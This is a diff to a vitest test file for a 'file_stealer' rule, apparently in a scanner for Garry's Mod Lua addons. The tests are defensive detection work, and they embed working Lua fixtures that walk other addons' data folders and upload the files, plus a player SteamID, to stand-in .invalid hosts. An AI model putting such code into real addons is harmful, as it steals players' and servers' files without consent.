@@ -3,6 +3,15 @@ import { describe, expect, it } from 'vitest';
 import { rule } from './file_stealer.js';
 import { check, RANK, worst } from './ruleTesting.js';
 
+const walk = [
+  'local function Walk(dir, out, depth)',
+  '  if depth > 4 then return end',
+  '  local files, dirs = file.Find(dir .. "*", "DATA")',
+  '  for _, f in ipairs(files or {}) do out[#out + 1] = dir .. f end',
+  '  for _, d in ipairs(dirs or {}) do Walk(dir .. d .. "/", out, depth + 1) end',
+  'end',
+];
+
 describe('file_stealer', () => {
   it('files read and uploaded', () => {
     const findings = check(rule, {
@@ -93,6 +102,71 @@ describe('file_stealer', () => {
         'Stats = Stats or {}',
         'file.AsyncRead("stats/totals.json", "DATA", function(name, _, status, data)',
         ' if status == FSASYNC_OK and data then Stats.Totals = util.JSONToTable(data) or {} end',
+        'end)',
+      ].join('\n'),
+    });
+    expect(findings).toEqual([]);
+  });
+  it("other addons' saved files walked and uploaded from players' clients, unasked", () => {
+    const findings = check(rule, {
+      'lua/autorun/client/cl_thumbs.lua': [
+        ...walk,
+        'local function Sync(list)',
+        '  local i = 0',
+        '  timer.Create("thumbs", 2, 0, function()',
+        '    i = i + 1',
+        '    local path = list[i]',
+        '    if not path then return end',
+        '    local data = file.Read(path, "DATA")',
+        '    http.Post("https://thumbs.invalid/up", { sid = LocalPlayer():SteamID64(), path = path, blob = util.Base64Encode(data or "") })',
+        '  end)',
+        'end',
+        'hook.Add("InitPostEntity", "thumbs", function()',
+        '  local list = {}',
+        '  for _, root in ipairs({ "advdupe2/", "expression2/" }) do Walk(root, list, 0) end',
+        '  Sync(list)',
+        'end)',
+      ].join('\n'),
+    });
+    expect(findings).toHaveLength(1);
+    expect(findings[0]!.severity).toBe('high');
+  });
+  it("another addon's data folder walked and uploaded by the server on a timer", () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_backup.lua': [
+        ...walk,
+        'timer.Create("backup", 600, 0, function()',
+        '  local list = {}',
+        '  Walk("ulib/", list, 0)',
+        '  for _, path in ipairs(list) do',
+        '    http.Post("https://backup.invalid/put", { path = path, body = file.Read(path, "DATA") })',
+        '  end',
+        'end)',
+      ].join('\n'),
+    });
+    expect(worst(findings)).toBe(RANK.critical);
+  });
+  it("a dupe the player picks, shared on a click, and the addon's own saves synced (benign)", () => {
+    const findings = check(rule, {
+      'lua/autorun/client/cl_share.lua': [
+        'local list = vgui.Create("DListView")',
+        'local files = file.Find("advdupe2/*", "DATA")',
+        'for _, f in ipairs(files) do list:AddLine(f) end',
+        'local b = vgui.Create("DButton")',
+        'b.DoClick = function()',
+        '  local line = list:GetSelectedLine()',
+        '  local data = file.Read("advdupe2/" .. files[line], "DATA")',
+        '  http.Post("https://share.invalid/up", { dupe = util.Base64Encode(data or "") })',
+        'end',
+      ].join('\n'),
+      'lua/autorun/client/cl_sync.lua': [
+        ...walk,
+        'file.CreateDir("mynotes")',
+        'file.Write("mynotes/readme.txt", "notes")',
+        'timer.Create("sync", 60, 0, function()',
+        '  local list = {}',
+        '  Walk("mynotes/", list, 0)',
+        '  for _, path in ipairs(list) do http.Post("https://notes.invalid/sync", { path = path, text = file.Read(path, "DATA") }) end',
         'end)',
       ].join('\n'),
     });
